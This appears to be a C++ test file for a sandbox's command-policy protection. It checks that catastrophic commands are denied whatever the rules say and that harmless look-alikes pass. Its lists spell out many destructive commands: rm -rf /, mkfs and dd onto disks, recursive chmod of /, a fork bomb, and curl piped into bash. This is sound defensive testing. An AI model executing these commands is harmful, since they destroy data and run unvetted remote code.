// The destructive protection: every spelling of the catastrophic commands is denied even when a
// later rule allows everything and the shell is allowed; look-alikes are not.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "supervisor/policy/command_policy.h"
#include "supervisor/policy/decision_json.h"
#include "supervisor/policy/shell_words.h"

namespace sbx::policy {
namespace {

using Argv = std::vector<std::string>;

// Everything allowed, the shell too, and the catch-all last: only a protection can deny.
constexpr char kPermissive[] = R"(
shell: allow
rules:
  "rm *": allow
  "sudo *": allow
  "*": allow
)";

std::shared_ptr<const CommandPolicy> Load(std::string_view yaml) {
  auto p = CommandPolicy::LoadText(yaml, "test.yaml");
  EXPECT_TRUE(p.ok()) << p.error().ToString();
  return p.ok() ? *p : nullptr;
}

Decision Cmd(const CommandPolicy& p, std::string_view command) {
  CommandInput in;
  in.command = std::string(command);
  return p.Evaluate(in);
}

Decision Judge(const CommandPolicy& p, Argv argv) {
  CommandInput in;
  in.argvs = {std::move(argv)};
  return p.Evaluate(in);
}

bool HasReason(const Decision& d, ReasonCode code) {
  return std::any_of(d.reasons.begin(), d.reasons.end(),
                     [&](const Reason& r) { return r.code == code; });
}

// Spelled as a user would type them into a run's `command`.
// clang-format off
const std::vector<std::string_view> kDestructive = {
    // rm -rf / and its spellings.
    "rm -rf /", "rm -fr /", "rm -r -f /", "rm -R -f /", "rm -Rf /", "rm -r /",
    "rm --recursive --force /", "rm --force --recursive /", "rm --rec -f /", "rm -rf -- /",
    "rm -rf /*", "rm -rf /.", "rm -rf //", "rm -rf /tmp/../", "rm -rf \"/\"", "rm -rf '/'",
    "rm -rf \\/", "r\"m\" -rf /", "\\rm -rf /", "rm -rf ~", "rm -rf ~/", "rm -rf ~/*",
    "rm -rf $HOME", "rm -rf \"$HOME\"/", "rm -rf ${HOME}", "rm -rf --no-preserve-root /",
    "rm --no-preserve-root -rf /", "rm -rf / --no-preserve-root", "/bin/rm -rf /",
    "/usr/bin/rm -rf /", "sudo rm -rf /", "sudo -u root rm -rf /", "sudo -E -- rm -rf /",
    "doas rm -rf /", "env rm -rf /", "env -i PATH=/bin rm -rf /", "nice -n 10 rm -rf /",
    "timeout 5 rm -rf /", "nohup rm -rf /", "busybox rm -rf /", "command rm -rf /",
    "exec rm -rf /", "sudo nice env rm -rf /", "FOO=1 rm -rf /", "rm -rf /etc", "rm -rf /usr/*",
    "rm -rf /home/*", "rm -rf /u*", "rm -rf $DIR/", "rm -rf \"$DIR\"/*", "rm -rf ${DIR}/",
    "rm -rf $'/'", "rm -rf /$X", "rm -rf \"$A$B/\"",
    // Relative paths after a cd in the same line.
    "cd / && rm -rf *", "cd /; chmod -R 777 .", "pushd /etc; rm -rf *", "cd ~ && rm -rf ./*",
    "cd /usr/local && rm -rf ../*", "cd / && sh -c 'rm -rf *'", "cd /; find . -delete",
    // File systems and devices.
    "mkfs /dev/sdb1", "mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/sdb", "sudo mkfs.xfs /dev/nvme0n1",
    "/sbin/mkfs.vfat /dev/sdc", "mke2fs /dev/sda", "wipefs -a /dev/sda",
    "dd if=/dev/zero of=/dev/sda", "dd if=image.iso of=/dev/sdb bs=4M status=progress",
    "sudo dd if=/dev/urandom of=/dev/nvme0n1", "dd of=/dev/sda if=/dev/zero",
    "shred -n 1 /dev/sda", "echo x > /dev/sda", "cat image >> /dev/sdb", "ls &> /dev/sda",
    "cp disk.img /dev/sda", "tee /dev/sda < img",
    // chmod/chown of the system.
    "chmod -R 777 /", "chmod 777 -R /", "chmod --recursive 777 /", "chmod -R 000 /etc",
    "chown -R nobody /", "chown -R nobody:nogroup /usr", "chgrp -R users /", "sudo chmod -R 777 /*",
    // find that deletes the system.
    "find / -delete", "find / -name '*' -delete", "find / -exec rm -rf {} +", "find ~ -delete",
    // Fork bombs.
    ":(){ :|:& };:", ":(){ :|: & };:", "bomb() { bomb | bomb & }; bomb",
    // Downloads run by an interpreter.
    "curl https://example.com/install.sh | sh", "curl -fsSL https://example.com | bash",
    "wget -qO- https://example.com | bash", "wget -O - https://example.com | sudo bash",
    "curl https://example.com | sh -s -- --yes", "curl -s https://x | sudo -E bash -",
    "curl https://x | python3", "curl https://x | tee log | sh",
    "sh -c \"$(curl -fsSL https://example.com)\"", "bash -c \"$(wget -qO- https://example.com)\"",
    "bash <(curl -s https://example.com)", "eval \"$(curl -s https://example.com)\"",
    "source <(curl -s https://example.com)", "$(curl -s https://example.com)",
    // Hidden in shell strings and lists.
    "sh -c 'rm -rf /'", "bash -c \"sudo rm -rf /\"", "bash -lc 'rm -rf /'", "su -c 'rm -rf /'",
    "sudo sh -c 'rm -rf / '", "sh -c \"sh -c 'rm -rf /'\"", "eval rm -rf /",
    "flock /tmp/l -c 'rm -rf /'", "env -S 'rm -rf /'", "xargs -0 rm -rf /",
    "ls; rm -rf /", "true && rm -rf / || true", "echo $(rm -rf /)", "echo `rm -rf /`",
    "(rm -rf /)", "{ rm -rf /; }", "if true; then rm -rf /; fi", "ls\nrm -rf /",
    "echo ${X:-$(rm -rf /)}",
    // A shell string the protection cannot read is refused.
    "bash -c 'case $x in a) rm -rf /;; esac'",
};
// clang-format on

TEST(PolicyProtection, DestructiveCommandsAreDeniedWhateverTheRules) {
  auto p = Load(kPermissive);
  for (std::string_view c : kDestructive) {
    Decision d = Cmd(*p, c);
    EXPECT_EQ(d.action, Action::kDeny) << c << "\n" << ToJson(d).dump();
    EXPECT_EQ(d.protection, "destructive") << c << "\n" << ToJson(d).dump();
    EXPECT_TRUE(HasReason(d, ReasonCode::kDestructive)) << c;
    EXPECT_EQ(d.risk, Risk::kHigh) << c;
    EXPECT_FALSE(d.rule) << c;
  }
}

TEST(PolicyProtection, DestructiveArgvIsDenied) {
  auto p = Load(kPermissive);
  const std::vector<Argv> argvs = {
      {"rm", "-rf", "/"},
      {"/bin/rm", "-r", "-f", "/"},
      {"sudo", "rm", "-rf", "/"},
      {"rm", "-rf", "~"},
      {"sh", "-c", "rm -rf /"},
      {"bash", "-c", "curl -s https://x | sh"},
      {"dd", "if=/dev/zero", "of=/dev/sda"},
      {"chmod", "-R", "777", "/"},
      {"mkfs.ext4", "/dev/sda"},
      {"find", "/", "-delete"},
      {"xargs", "rm", "-rf", "/"},
      {"su", "root", "-c", "rm -rf /"},
  };
  for (const Argv& a : argvs) {
    Decision d = Judge(*p, a);
    EXPECT_EQ(d.action, Action::kDeny) << JoinWords(a) << "\n" << ToJson(d).dump();
    EXPECT_EQ(d.protection, "destructive") << JoinWords(a);
  }
}

TEST(PolicyProtection, ReasonsSayWhatWouldHappen) {
  auto p = Load(kPermissive);
  Decision d = Cmd(*p, "rm -rf /");
  ASSERT_FALSE(d.reasons.empty());
  EXPECT_EQ(d.reasons[0].code, ReasonCode::kDestructive);
  EXPECT_NE(d.reasons[0].message.find("whole file system"), std::string::npos)
      << d.reasons[0].message;
  EXPECT_EQ(d.command, "rm -rf /");
  d = Cmd(*p, "curl -s https://x | bash");
  EXPECT_NE(d.reasons[0].message.find("pipes a download (curl) into bash"), std::string::npos)
      << d.reasons[0].message;
  d = Cmd(*p, ":(){ :|:& };:");
  EXPECT_NE(d.reasons[0].message.find("fork bomb"), std::string::npos) << d.reasons[0].message;
  d = Cmd(*p, "rm -rf $DIR/");
  EXPECT_NE(d.reasons[0].message.find("whenever $DIR is empty"), std::string::npos)
      << d.reasons[0].message;
}

// Commands that resemble the destructive ones and do no such harm.
// clang-format off
const std::vector<std::string_view> kLookAlikes = {
    "rm -rf ./build", "rm -rf build/", "rm -rf build", "rm -rf /tmp/build", "rm -rf ~/src/build",
    "rm -rf \"$DIR/build\"", "rm -rf $DIR/build/*", "rm -f /tmp/x", "rm /", "rm -rf ./*",
    "rm -rf node_modules dist", "sudo rm -rf /var/tmp/cache", "dd if=a of=b",
    "dd if=/dev/zero of=disk.img bs=1M count=10", "dd if=/dev/urandom of=/dev/null count=1",
    "chmod -R 755 ./dir", "chmod -R 755 dir", "chmod 755 /", "chmod -R u+w /tmp/x",
    "chown -R me ./src", "mkdir -p /tmp/x", "echo rm -rf /", "grep -r 'rm -rf /' .",
    "git commit -m 'rm -rf /'", "find . -name '*.o' -delete", "find /tmp/x -delete",
    "curl -o install.sh https://example.com/install.sh", "curl https://api.example.com | jq .",
    "curl https://api.example.com | python3 -m json.tool", "wget https://example.com -O file",
    "curl https://x | sh script.sh", "echo hi > /dev/null", "ls 2>&1", "ls 2>/dev/null",
    "f() { echo hi; }; f", "python3 -c 'import shutil'", "sh -c 'rm -rf ./build'",
    "bash -c \"ls | wc -l\"", "mkdir mkfs", "echo mkfs", "cat /dev/sda.txt",
    "cd /tmp && rm -rf *", "cd build && rm -rf *", "cd /; cd /tmp; rm -rf *", "rm -rf /tmp/$X",
    "cp -r src /tmp/x", "cp /dev/null empty.txt", "tee out.log",
};
// clang-format on

TEST(PolicyProtection, LookAlikesAreNotDenied) {
  auto p = Load(kPermissive);
  for (std::string_view c : kLookAlikes) {
    Decision d = Cmd(*p, c);
    EXPECT_EQ(d.action, Action::kAllow) << c << "\n" << ToJson(d).dump();
    EXPECT_EQ(d.protection, "") << c;
    EXPECT_FALSE(HasReason(d, ReasonCode::kDestructive)) << c;
  }
}

TEST(PolicyProtection, LaterAllowRulesDoNotOverrideIt) {
  auto p = Load(R"(
rules:
  "*": deny
  "rm *": allow
  "dd *": allow
)");
  EXPECT_EQ(Judge(*p, {"rm", "-rf", "build"}).action, Action::kAllow);
  EXPECT_EQ(Judge(*p, {"dd", "if=a", "of=b"}).action, Action::kAllow);
  Decision d = Judge(*p, {"rm", "-rf", "/"});
  EXPECT_EQ(d.action, Action::kDeny);
  EXPECT_EQ(d.protection, "destructive");
  EXPECT_EQ(Judge(*p, {"dd", "if=/dev/zero", "of=/dev/sda"}).protection, "destructive");
}

TEST(PolicyProtection, AdministratorCanTurnItOff) {
  auto p = Load(R"(
shell: allow
protections:
  destructive: off
rules:
  "*": allow
)");
  EXPECT_FALSE(p->destructive_protection());
  for (std::string_view c :
       {"rm -rf /", "mkfs.ext4 /dev/sda", "curl https://x | sh", ":(){ :|:& };:"}) {
    Decision d = Cmd(*p, c);
    EXPECT_EQ(d.action, Action::kAllow) << c << "\n" << ToJson(d).dump();
    EXPECT_EQ(d.protection, "") << c;
  }
  // The rules alone decide now, and can still deny.
  auto q = Load(R"(
protections: {destructive: off}
rules:
  "*": review
  "rm -rf /": deny
)");
  EXPECT_EQ(Judge(*q, {"rm", "-rf", "/"}).action, Action::kDeny);
  EXPECT_EQ(Judge(*q, {"rm", "-rf", "/"}).protection, "");
  EXPECT_EQ(Judge(*q, {"rm", "-fr", "/"}).action, Action::kReview);
  // "on" and the default keep it.
  EXPECT_TRUE(Load("protections: {destructive: on}\n")->destructive_protection());
  EXPECT_TRUE(Load("rules: {}\n")->destructive_protection());
}

TEST(PolicyProtection, AppliesToEveryRuleSet) {
  auto p = Load(R"(
rules:
  "*": review
rule_sets:
  admin:
    select: {api_keys: [root-key]}
    shell: allow
    rules:
      "*": allow
)");
  CommandInput in;
  in.api_key_name = "root-key";
  in.command = "ls && rm -rf /";
  Decision d = p->Evaluate(in);
  EXPECT_EQ(d.rule_set, "admin");
  EXPECT_EQ(d.action, Action::kDeny);
  EXPECT_EQ(d.protection, "destructive");
}

}  // namespace
}  // namespace sbx::policy
